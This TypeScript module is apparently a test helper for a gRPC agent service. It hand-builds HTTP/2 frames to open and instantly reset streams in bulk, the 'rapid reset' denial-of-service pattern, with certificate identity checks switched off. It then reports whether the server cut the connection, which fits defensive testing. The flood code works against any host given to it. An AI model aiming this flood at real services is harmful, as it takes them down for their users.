/*
 * A caller with a good certificate and bad manners: opens call after call and has each reset at once, faster than any
 * client library would. The frames are made here (RFC 9113), since node:http2 takes back what it has not sent yet.
 */
import { connect, type TLSSocket } from "node:tls";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const WINDOW_UPDATE = 0x8;
const END_HEADERS = 0x4;
const CANCEL = 0x8;
const STREAM_MAX = 2 ** 31 - 1;
const WINDOW_MAX = 2 ** 31 - 1;
/** A busy agent may take this long to read that far, in milliseconds. */
const PUT_OUT_MS = 60_000;
/** Calls in one write. */
const PER_WRITE = 200;

/** Who resets the calls: their caller, or the agent, which is made to by a frame that is wrong. */
export type Resetter = "caller" | "agent";

export interface FloodOptions {
  readonly host: string;
  readonly port: number;
  readonly tls: { readonly ca: string; readonly cert: string; readonly key: string };
  /** Of the method, e.g. "/ferry.v1.AgentService/GetInfo". */
  readonly path: string;
  readonly resetter: Resetter;
  readonly callsMax: number;
}

/** Floods until it is put out, or has sent `callsMax` calls; answers how many it could send, and whether it was put out. */
export async function floodWithResets(
  options: FloodOptions,
): Promise<{ readonly sent: number; readonly putOut: boolean }> {
  const { host, port, tls, path, resetter, callsMax } = options;
  const socket = await greet({ host, port, tls });
  const block = headerBlock(path);
  // A window above 2^31 - 1 ends the stream alone (RFC 9113, 6.9.1).
  const end = resetter === "caller" ? [RST_STREAM, CANCEL] : [WINDOW_UPDATE, WINDOW_MAX];
  const [type = 0, value = 0] = end;
  let sent = 0;
  for (let id = 1; sent < callsMax && id < STREAM_MAX && !socket.destroyed; ) {
    const frames: Buffer[] = [];
    for (let count = 0; count < PER_WRITE; count += 1, id += 2) {
      frames.push(frame(HEADERS, END_HEADERS, id, block), frame(type, 0, id, word(value)));
    }
    sent += PER_WRITE;
    await written(socket, Buffer.concat(frames));
  }
  const putOut = socket.destroyed || (await endedWithin(socket, PUT_OUT_MS));
  socket.destroy();
  return { sent, putOut };
}

async function greet({ host, port, tls }: Pick<FloodOptions, "host" | "port" | "tls">) {
  const socket = connect({
    ...tls,
    host,
    port,
    ALPNProtocols: ["h2"],
    checkServerIdentity: () => undefined,
  });
  await new Promise<void>((resolve, reject) => {
    socket.once("secureConnect", resolve);
    socket.once("error", reject);
  });
  socket.on("error", () => {}); // it is put out in the end
  socket.resume();
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
  return socket;
}

/** A gRPC call's headers, without compression (RFC 7541): names of the static table, everything else spelt out. */
function headerBlock(path: string): Buffer {
  const text = (value: string) => {
    if (value.length > 126) throw new Error(`${value} is too long for one byte of length`);
    return Buffer.concat([Buffer.from([value.length]), Buffer.from(value, "latin1")]);
  };
  return Buffer.concat([
    Buffer.from([0x83, 0x87]), // :method POST, :scheme https
    Buffer.concat([Buffer.from([0x04]), text(path)]),
    Buffer.concat([Buffer.from([0x01]), text("agent")]), // :authority
    Buffer.concat([Buffer.from([0x0f, 0x10]), text("application/grpc")]), // content-type
    Buffer.concat([Buffer.from([0x00]), text("te"), text("trailers")]),
  ]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function word(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** Until the bytes have left, or the socket is gone. */
function written(socket: TLSSocket, bytes: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const gone = () => resolve();
    socket.once("close", gone);
    socket.write(bytes, () => {
      socket.off("close", gone);
      resolve();
    });
  });
}

function endedWithin(socket: TLSSocket, ms: number): Promise<boolean> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve(false), ms);
    socket.once("close", () => {
      clearTimeout(timer);
      resolve(true);
    });
  });
}
